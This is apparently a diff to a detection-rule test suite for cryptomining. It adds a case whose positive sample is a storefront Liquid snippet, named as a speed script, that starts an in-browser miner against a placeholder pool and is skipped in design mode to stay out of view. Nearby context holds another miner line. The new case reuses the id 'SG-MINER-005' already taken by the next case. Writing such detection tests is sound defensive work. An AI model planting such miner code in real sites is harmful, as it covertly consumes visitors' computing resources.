@@ -20,6 +20,15 @@ describeRuleCases('mining', [
     negative: 'scheme  = "https"\nhost    = "eu1.farm.example.net"\n',
   },
   {
+    // A storefront snippet's inline script runs in every visitor's browser: read as JavaScript.
+    id: 'SG-MINER-005',
+    file: 'snippets/speed.liquid',
+    positive:
+      "{%- unless request.design_mode -%}\n<script>\n  var w = new Warm.Worker({ pool: 'wss://p.example.net:443', algo: 'rx/0', user: '{{ shop.permanent_domain }}' });\n  w.start();\n</script>\n{%- endunless -%}\n",
+    negative:
+      "{%- unless request.design_mode -%}\n<script>\n  var w = new Warm.Worker({ url: '/cart.js', mode: 'idle', user: '{{ shop.permanent_domain }}' });\n  w.start();\n</script>\n{%- endunless -%}\n",
+  },
+  {
     id: 'SG-MINER-005',
     file: 'scripts/worker.js',
     positive: "w.__perf = new w.CRT.Anonymous(k, { threads: n - 1, algo: 'cn-pico' });\n",
